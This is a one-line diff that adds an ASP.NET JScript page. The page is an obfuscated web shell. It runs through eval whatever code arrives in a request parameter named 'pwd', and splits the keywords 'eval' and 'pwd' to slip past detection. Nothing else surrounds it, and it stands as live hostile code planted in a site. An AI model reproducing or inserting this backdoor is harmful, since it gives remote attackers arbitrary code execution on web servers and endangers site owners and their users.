@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><%this["ev"+"al"](Request.Item["p"+"wd"],"un"+"safe");%>
